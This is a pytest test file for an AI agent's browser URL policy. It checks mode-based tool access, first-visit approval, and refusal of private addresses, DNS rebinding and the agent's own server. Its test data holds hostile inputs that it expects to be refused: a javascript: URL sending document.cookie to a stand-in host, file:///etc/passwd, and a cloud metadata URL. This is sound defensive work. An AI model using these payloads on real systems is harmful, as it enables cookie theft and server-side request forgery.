"""Where the browser may go, per mode, and what asks first (agent/browser/policy.py).

DNS is the network edge: names under ``.test`` resolve through a table the test hands
the policy (``getaddrinfo``'s shape), so a public name can resolve to a private address
(DNS rebinding) on demand. ``localhost`` and ``*.localhost`` are loopback without a
lookup, as in Chromium (the real resolver is tested in test_urls.py).
"""

from __future__ import annotations

import socket
from collections.abc import Mapping, Sequence
from pathlib import Path

import pytest

from workhearth.agent.approval import Policy
from workhearth.agent.browser.policy import (
    BROWSER_TOOLS,
    READ_ONLY_TOOLS,
    SitePolicy,
    parse_pattern,
)
from workhearth.config import BrowserConfig, load_config
from workhearth.errors import ConfigError

PUBLIC = "93.184.216.34"


class Dns:
    """A DNS table at the network edge; counts lookups so a test can say none happened."""

    def __init__(self, table: Mapping[str, Sequence[str]]) -> None:
        self.table = dict(table)
        self.asked: list[str] = []

    def __call__(self, host: str, port: int | None) -> list[tuple[object, ...]]:
        self.asked.append(host)
        if host not in self.table:
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
        return [
            (socket.AF_INET6 if ":" in a else socket.AF_INET, socket.SOCK_STREAM, 6, "", (a, 0))
            for a in self.table[host]
        ]


def policy(
    mode: str = "agent",
    allow: Sequence[str] = (),
    dns: Dns | None = None,
    *,
    servers: Sequence[str] = (),
    quest_network: bool = True,
) -> SitePolicy:
    return SitePolicy.from_config(
        BrowserConfig(allow=tuple(allow)),
        mode,  # type: ignore[arg-type]
        quest_network=quest_network,
        server_urls=servers,
        getaddrinfo=dns or Dns({}),
    )


# ------------------------------------------------------------------ tools per mode


def test_agent_mode_offers_every_browser_tool() -> None:
    assert policy("agent").offered_tools() == BROWSER_TOOLS
    assert len(BROWSER_TOOLS) == 15


def test_ask_mode_offers_the_read_only_tools_only() -> None:
    offered = policy("ask").offered_tools()
    assert set(offered) == READ_ONLY_TOOLS
    for changing in ("browser_click", "browser_type", "browser_download", "browser_upload"):
        assert not policy("ask").offers(changing)
    assert policy("ask").offers("browser_open")


def test_quest_offers_every_tool_with_network_and_none_without() -> None:
    assert policy("quest").offered_tools() == BROWSER_TOOLS
    assert policy("quest", quest_network=False).offered_tools() == ()
    # [quest] network binds quest only: a person present in agent mode still browses.
    assert policy("agent", quest_network=False).offered_tools() == BROWSER_TOOLS


def test_quest_network_comes_from_the_quest_table() -> None:
    quest = Policy.from_config({"quest": {"network": False}})
    assert policy("quest", quest_network=quest.network).offered_tools() == ()


@pytest.mark.parametrize("action", ["submit", "download", "upload"])
def test_submissions_downloads_and_uploads_ask_in_agent_mode_only(action: str) -> None:
    assert policy("agent").asks(action)  # type: ignore[arg-type]
    assert not policy("quest").asks(action)  # type: ignore[arg-type]


# ------------------------------------------------------------------ first visits


def test_first_visit_asks_without_a_lookup_then_the_site_is_remembered() -> None:
    dns = Dns({"example.test": [PUBLIC]})
    rules = policy("agent", dns=dns)
    first = rules.check_url("https://example.test/report?q=1")
    assert (first.outcome, first.site) == ("ask", "https://example.test")
    # Why: the lookup itself sends the name out; nothing is looked up before a yes.
    assert dns.asked == []
    rules.remember(first.site)
    assert rules.check_url("https://example.test/other").outcome == "ok"
    assert dns.asked == ["example.test"]
    # Another scheme or port is another site.
    assert rules.check_url("http://example.test/").outcome == "ask"
    assert rules.check_url("https://example.test:8443/").outcome == "ask"


def test_ask_mode_asks_on_a_first_visit_too() -> None:
    rules = policy("ask", dns=Dns({"example.test": [PUBLIC]}))
    assert rules.check_url("https://example.test/").outcome == "ask"


def test_first_visits_are_per_policy_that_is_per_session() -> None:
    dns = Dns({"example.test": [PUBLIC]})
    one, two = policy("agent", dns=dns), policy("agent", dns=dns)
    one.remember("https://example.test")
    assert one.check_url("https://example.test/").ok
    assert two.check_url("https://example.test/").outcome == "ask"


def test_an_allowed_site_never_asks_in_agent_mode() -> None:
    rules = policy("agent", ["*.example.test"], Dns({"docs.example.test": [PUBLIC]}))
    assert rules.check_url("https://docs.example.test/").outcome == "ok"


# ------------------------------------------------------------------ quest


def test_quest_visits_allowed_sites_unasked_and_refuses_others_without_a_lookup() -> None:
    dns = Dns({"docs.example.test": [PUBLIC], "other.test": [PUBLIC]})
    rules = policy("quest", ["*.example.test"], dns)
    assert rules.check_url("https://docs.example.test/a").outcome == "ok"
    refused = rules.check_url("https://other.test/?data=secret")
    assert refused.outcome == "refused"
    assert "quest mode visits only the sites in [browser] allow" in refused.reason
    assert "other.test" not in dns.asked


def test_a_remembered_site_is_still_refused_in_quest() -> None:
    rules = policy("quest", dns=Dns({"other.test": [PUBLIC]}))
    rules.remember("https://other.test")
    assert rules.check_url("https://other.test/").outcome == "refused"


# ------------------------------------------------------------------ addresses


@pytest.mark.parametrize(
    ("url", "words"),
    [
        ("http://127.0.0.1:8080/", "127.0.0.1 is a loopback address"),
        ("http://0x7f.1/", "127.0.0.1 is a loopback address"),
        ("http://[::1]/", "::1 is a loopback address"),
        ("http://169.254.169.254/latest/meta-data/", "link-local"),
        ("http://192.168.1.1/", "private"),
        ("http://100.64.0.1/", "carrier-grade NAT"),
        ("http://[fd00::1]/", "unique-local"),
        ("http://[::ffff:10.0.0.1]/", "private"),
        ("http://0.0.0.0:8000/", "unspecified"),
        ("http://localhost:8000/", "loopback"),
        ("http://app.localhost/", "loopback"),
    ],
)
def test_private_addresses_are_refused_before_anything_asks(url: str, words: str) -> None:
    verdict = policy("agent").check_url(url)
    assert verdict.outcome == "refused"
    assert words in verdict.reason
    assert "unless [browser] allow names the host" in verdict.reason


def test_a_public_name_resolving_to_a_private_address_is_refused() -> None:
    rules = policy("agent", dns=Dns({"rebind.test": ["10.0.0.5"]}))
    rules.remember("https://rebind.test")
    verdict = rules.check_url("https://rebind.test/")
    assert verdict.outcome == "refused"
    assert "rebind.test resolves to 10.0.0.5, a private address" in verdict.reason


def test_one_private_address_among_public_ones_refuses_the_name() -> None:
    rules = policy("agent", dns=Dns({"mixed.test": [PUBLIC, "2606:4700::1", "fe80::1"]}))
    rules.remember("https://mixed.test")
    verdict = rules.check_url("https://mixed.test/")
    assert verdict.outcome == "refused"
    assert "fe80::1, a link-local address" in verdict.reason


def test_a_name_that_does_not_resolve_is_refused_in_words() -> None:
    rules = policy("agent", dns=Dns({}))
    rules.remember("https://nowhere.test")
    verdict = rules.check_url("https://nowhere.test/")
    assert verdict.outcome == "refused"
    assert "cannot find the address of nowhere.test" in verdict.reason


def test_allow_naming_a_private_host_lets_it_through_on_its_port_only() -> None:
    dns = Dns({})
    rules = policy("quest", ["localhost:8123", "10.0.0.5"], dns)
    assert rules.check_url("http://localhost:8123/").ok
    assert dns.asked == []  # localhost is loopback without a lookup, as in Chromium
    assert rules.check_url("http://10.0.0.5:9999/").ok  # no port: any port
    assert rules.check_url("http://localhost:8124/").outcome == "refused"
    assert rules.check_url("http://127.0.0.1:8123/").outcome == "refused"  # not named


def test_an_allowed_name_resolving_privately_is_allowed_since_the_user_named_it() -> None:
    rules = policy("agent", ["intranet.test"], Dns({"intranet.test": ["10.1.2.3"]}))
    assert rules.check_url("https://intranet.test/").ok


def test_a_bare_star_allows_public_sites_but_names_no_private_one() -> None:
    dns = Dns({"example.test": [PUBLIC], "rebind.test": ["192.168.0.9"]})
    rules = policy("quest", ["*"], dns)
    assert rules.check_url("https://example.test/").ok
    assert rules.check_url("https://rebind.test/").outcome == "refused"
    assert rules.check_url("http://127.0.0.1/").outcome == "refused"


def test_lookups_are_reused_for_a_short_while() -> None:
    dns = Dns({"example.test": [PUBLIC]})
    now = [100.0]
    rules = policy("agent", ["example.test"], dns)
    rules.clock = lambda: now[0]
    assert rules.check_url("https://example.test/a").ok
    assert rules.check_resource("https://example.test/b.png").ok
    assert dns.asked == ["example.test"]
    now[0] += 31
    dns.table["example.test"] = ["10.0.0.9"]  # the name now points inside
    assert rules.check_url("https://example.test/a").ok  # allowed by name: the user's word
    assert dns.asked == ["example.test", "example.test"]


# ------------------------------------------------------------------ hearth's own server


def test_hearths_own_server_is_refused_even_when_allowed() -> None:
    rules = policy(
        "quest", ["127.0.0.1", "localhost", "::ffff:127.0.0.1"], servers=["http://127.0.0.1:8123"]
    )
    urls = ("http://127.0.0.1:8123/v1/memory", "http://localhost:8123/", "http://0x7f.1:8123")
    for url in (*urls, "http://[::ffff:127.0.0.1]:8123/"):
        verdict = rules.check_url(url)
        assert verdict.outcome == "refused", url
        assert "hearth's own server" in verdict.reason
    assert rules.check_url("http://127.0.0.1:8124/").ok  # another port: a test site


def test_a_server_on_every_address_is_refused_on_any_local_address() -> None:
    rules = policy("quest", ["192.168.1.5", "127.0.0.1"], servers=["http://0.0.0.0:8123/"])
    assert rules.check_url("http://192.168.1.5:8123/").outcome == "refused"
    assert rules.check_url("http://127.0.0.1:8123/").outcome == "refused"
    assert rules.check_url("http://127.0.0.1:8000/").ok


def test_a_server_named_by_host_is_refused_at_its_address() -> None:
    dns = Dns({"hearth.test": ["10.0.0.7"]})
    rules = policy("quest", ["10.0.0.7", "hearth.test"], dns, servers=["http://hearth.test:8123"])
    assert "hearth's own server" in rules.check_url("http://10.0.0.7:8123/").reason
    assert "hearth's own server" in rules.check_url("http://hearth.test:8123/").reason


def test_the_servers_resources_are_refused_too() -> None:
    rules = policy("agent", ["127.0.0.1"], servers=["http://127.0.0.1:8123"])
    assert rules.check_resource("http://127.0.0.1:8123/app.js").outcome == "refused"


# ------------------------------------------------------------------ schemes and resources


@pytest.mark.parametrize(
    ("url", "words"),
    [
        ("file:///etc/passwd", "file: URLs are not opened"),
        ("chrome://settings/", "browser's own settings"),
        ("javascript:fetch('//x.test/?'+document.cookie)", "javascript: URLs are not opened"),
        ("data:text/html,hi", "data: URLs are not opened"),
        ("http://user:pw@example.test/", "user name or password"),
    ],
)
def test_refused_urls_come_back_as_verdicts_with_words(url: str, words: str) -> None:
    verdict = policy("quest", ["*"]).check_url(url)
    assert verdict.outcome == "refused"
    assert words in verdict.reason


def test_about_blank_is_always_fine() -> None:
    assert policy("quest").check_url("about:blank").ok


def test_resources_follow_the_address_rules_only() -> None:
    dns = Dns({"cdn.test": [PUBLIC], "router.test": ["192.168.0.1"]})
    rules = policy("quest", ["docs.test"], dns)  # cdn.test is neither allowed nor visited
    assert rules.check_resource("https://cdn.test/app.js").ok
    assert rules.check_resource("data:image/png;base64,AAAA").ok
    assert rules.check_resource("https://router.test/reboot").outcome == "refused"
    assert rules.check_resource("http://192.168.0.1/").outcome == "refused"
    assert rules.check_resource("file:///etc/passwd").outcome == "refused"


# ------------------------------------------------------------------ [browser] allow


@pytest.mark.parametrize(
    ("pattern", "url", "matches"),
    [
        ("*.example.test", "https://a.example.test/", True),
        ("*.example.test", "https://a.b.example.test/", True),
        ("*.example.test", "https://example.test/", False),
        ("*.example.test", "https://badexample.test/", False),
        ("example.test", "https://EXAMPLE.test./", True),
        ("example.test:8080", "http://example.test:8080/", True),
        ("example.test:8080", "http://example.test/", False),
        ("example.test:443", "https://example.test/", True),
        ("example.test:*", "http://example.test:9/", True),
        ("https://example.test", "http://example.test/", False),
        ("https://example.test", "https://example.test/", True),
        ("[::1]:9000", "http://[::1]:9000/", True),
        ("::1", "http://[0::1]:1/", True),
        ("0x7f.1", "http://127.0.0.1/", True),
        ("bücher.example", "https://xn--bcher-kva.example/", True),
    ],
)
def test_allow_patterns(pattern: str, url: str, matches: bool) -> None:
    from workhearth.agent.browser.urls import parse_url

    assert parse_pattern(pattern).matches(parse_url(url)) is matches


@pytest.mark.parametrize(
    "entry", ["", "example.test/path", "user@example.test", "example.test:0", "example.test:70000",
              "ftp://example.test", "[::1", "[nope]:80", "exa mple.test", "a%2eb", "exa!mple.test"],
)  # fmt: skip
def test_bad_allow_entries_are_one_config_line(entry: str) -> None:
    with pytest.raises(ConfigError) as caught:
        parse_pattern(entry)
    assert caught.value.message.startswith("[browser] allow: ")
    assert "\n" not in caught.value.message


def test_the_browser_table_is_read_from_config_toml(tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text(
        '[browser]\nexecutable = "/opt/chrome"\nheadless = false\n'
        'allow = ["*.example.test", "localhost:8123"]\nprofile = "~/chrome-profile"\n'
    )
    browser = load_config({}, tmp_path).browser
    assert browser == BrowserConfig(
        executable="/opt/chrome",
        headless=False,
        allow=("*.example.test", "localhost:8123"),
        profile="~/chrome-profile",
    )
    assert load_config({}, tmp_path / "none").browser == BrowserConfig()
    assert BrowserConfig().headless is True


@pytest.mark.parametrize(
    ("body", "words"),
    [
        ("headless = 1", "[browser] headless must be true or false"),
        ('allow = "*.example.test"', "[browser] allow must be a list of sites"),
        ('allow = ["a b"]', "[browser] allow must be a list of sites"),
        ('profle = "x"', "[browser] has unknown keys: profle"),
    ],
)
def test_a_wrong_browser_table_is_one_line(tmp_path: Path, body: str, words: str) -> None:
    (tmp_path / "config.toml").write_text(f"[browser]\n{body}\n")
    with pytest.raises(ConfigError) as caught:
        load_config({}, tmp_path)
    assert words in caught.value.message


def test_a_bad_allow_entry_stops_the_policy_in_words() -> None:
    with pytest.raises(ConfigError, match=r"\[browser\] allow: 'example.test/x' is not a site"):
        SitePolicy.from_config(BrowserConfig(allow=("example.test/x",)), "quest")
